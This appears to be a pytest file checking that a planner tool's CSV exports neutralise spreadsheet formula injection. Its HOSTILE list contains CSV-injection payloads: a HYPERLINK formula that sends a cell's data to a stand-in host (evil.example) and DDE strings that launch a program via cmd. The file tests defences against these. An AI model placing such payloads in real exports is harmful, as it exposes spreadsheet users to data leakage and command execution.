"""CSV exports never hand a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest

from planner.cli import main
from planner.demo import write_demo
from planner.exports import neutralise_cell, safe_csv_frame
from planner.store import open_workspace

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def read_back(frame: pd.DataFrame) -> list[dict[str, str]]:
    text = io.StringIO()
    safe_csv_frame(frame).to_csv(text, index=False, lineterminator="\n")
    return list(csv.DictReader(io.StringIO(text.getvalue())))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_prefixed_with_an_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


def test_a_cell_starting_with_a_carriage_return_becomes_a_quoted_line_break():
    assert neutralise_cell("\r=1+1") == "\n=1+1"
    assert excel_rows(safe_csv_frame(pd.DataFrame({"a": ["\r=1+1"]})).to_csv(
        index=False, lineterminator="\n")) == [["a"], ["\n=1+1"]]


@pytest.mark.parametrize("value", ["-3", "+5", "-0.25", "1e3", "plain text", "", "a=b", 7, -2.5,
                                   None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise_cell(value) == value


def test_a_written_csv_has_no_cell_a_spreadsheet_would_run():
    frame = pd.DataFrame({
        "customer": HOSTILE,
        "order_id": [f"#{i}" for i in range(len(HOSTILE))],
        "quantity": range(len(HOSTILE)),
        "delta": ["-3"] * len(HOSTILE),
        "order_date": pd.to_datetime(["2025-06-02"] * len(HOSTILE)),
    })
    rows = read_back(frame)
    for row, original in zip(rows, HOSTILE, strict=True):
        assert row["customer"] == "'" + original
        assert row["delta"] == "-3"
        assert row["order_date"] == "2025-06-02"
    assert frame["customer"].tolist() == HOSTILE  # the caller's frame is not changed


def test_the_backorder_csv_neutralises_hostile_names_from_the_workspace(tmp_path):
    path = tmp_path / "shop.db"
    db = open_workspace(path)
    write_demo(db, skus=20, years=1, seed=3, as_of=dt.date(2025, 6, 2))
    first = db.execute("SELECT order_id, sku FROM backorders ORDER BY order_id LIMIT 1").fetchone()
    db.execute("UPDATE backorders SET customer = ? WHERE order_id = ? AND sku = ?",
               [HOSTILE[0], *first])
    db.execute("UPDATE backorders SET order_id = ? WHERE order_id = ? AND sku = ?",
               [HOSTILE[3], *first])
    db.conn.close()
    out = tmp_path / "queue.csv"
    assert main(["backorders", str(path), "--as-of", "2025-06-02", "--csv", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert any(r["customer"] == "'" + HOSTILE[0] for r in rows)
    assert any(r["order_id"] == "'" + HOSTILE[3] for r in rows)
    for row in rows:
        for value in row.values():
            if value.startswith(FORMULA_START):
                float(value)  # only plain numbers may start like a formula


def excel_rows(text: str) -> list[list[str]]:
    """Rows as a spreadsheet reads them: a bare carriage return ends a row like a line feed."""
    return list(csv.reader(io.StringIO(text, newline=None)))


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula():
    frame = pd.DataFrame({"customer": ["Ada\r=1+1+cmd|' /C calc'!A0", "Bo"],
                          "quantity": [1, 2]})
    text = io.StringIO()
    safe_csv_frame(frame).to_csv(text, index=False, lineterminator="\n")
    rows = excel_rows(text.getvalue())
    assert len(rows) == 3
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row)
